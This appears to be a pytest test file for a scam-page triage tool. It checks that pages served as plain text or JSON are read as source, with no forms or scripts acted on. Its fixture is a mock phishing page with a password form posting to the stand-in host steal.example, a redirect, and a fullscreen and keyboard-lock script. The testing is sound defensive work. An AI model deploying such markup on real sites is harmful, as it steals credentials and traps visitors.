"""What a browser shows as it is written is text: nobody can type into it."""

import pytest

from scamtriage.parse.html.page import read_page
from scamtriage.parse.html.plain_source import is_source
from tests.collect.sites import QUICK, collect, site
from tests.net.peers import Net, page

PAGE = (
    b"<html><head><title>Bank login</title><script>location='/next'</script></head><body><h1>Hello</h1><p>Write to "
    b"<a href='https://t.me/agent_of_bank'>us</a></p><iframe src=https://other.example></iframe>"
    b"<form action=https://steal.example/><input type=password name=p></form>"
    b"<script>document.documentElement.requestFullscreen();navigator.keyboard.lock()</script></body></html>"
)


@pytest.mark.parametrize(
    ("types", "source"),
    [
        (["text/plain"], True),
        (["text/plain; charset=utf-8"], True),
        (["TEXT/CSV"], True),
        (["text/css"], True),
        (["application/json"], True),
        (["application/ld+json; x=y"], True),
        (["application/javascript"], True),
        (["text/html, text/plain"], True),
        (["text/html", "text/plain"], True),
        (["text/plain", "text/html"], False),
        (["text/plain", "nonsense"], True),
        (["text/plain", "*/*"], True),
        (['text/html; x="a, text/plain"'], False),
        (["text/html"], False),
        (["application/xhtml+xml"], False),
        (["text/xml"], False),
        (["image/svg+xml"], False),
        (["application/octet-stream"], False),
        ([""], False),
        (["text"], False),
        (["unknown/unknown"], False),
        ([], False),
    ],
)
def test_what_is_shown_as_source_is_what_browsers_neither_render_nor_sniff(types, source) -> None:
    assert is_source("", [("content-type", one) for one in types]) is source
    if len(types) == 1:
        assert is_source(types[0], []) is source


@pytest.mark.parametrize("kind", ["text/plain; charset=utf-8", "application/json"])
@pytest.mark.parametrize("nosniff", [(), ("X-Content-Type-Options: nosniff",)])
async def test_a_page_that_is_shown_as_source_asks_nothing_and_goes_nowhere(kind, nosniff) -> None:
    async with Net(**QUICK) as net:
        server = await site(net, {"/": page(PAGE, *nosniff).replace(b"text/html", kind.encode())})
        facts, _ = await collect(net)
    assert (facts.title, facts.headings, facts.forms, facts.form_count, facts.asks, facts.iframes, facts.behaviours) == (
        "",
        (),
        (),
        0,
        (),
        (),
        (),
    )
    assert "Bank login" in facts.text and "<form action=https://steal.example/>" in facts.text and facts.is_html
    assert [contact.value for contact in facts.contacts] == ["agent_of_bank"]
    assert "source" in facts.flags and "/next" not in [path for _, path in server.asked]


@pytest.mark.parametrize("kind", ["application/json", "application/json; charset=utf-8", "application/x-javascript", "application/x-sh"])
def test_a_source_that_holds_no_markup_is_read_as_well(kind) -> None:
    body = b'{"help": "WhatsApp +62 812-3456-7890", "mail": "agent.deng@gmail.com"}'
    facts, _ = read_page(body=body, content_type=kind, url="https://a.test/", host="a.test", suffix="test")
    assert {contact.value for contact in facts.contacts} == {"+6281234567890", "agent.deng@gmail.com"}
    assert facts.is_html and facts.flags == ("source",) and facts.text.startswith('{"help"')


def test_a_page_without_a_type_is_one() -> None:
    facts, _ = read_page(body=PAGE, content_type="", url="https://a.test/", host="a.test", suffix="test")
    assert facts.title == "Bank login" and facts.asks == ("password",) and facts.flags == ()
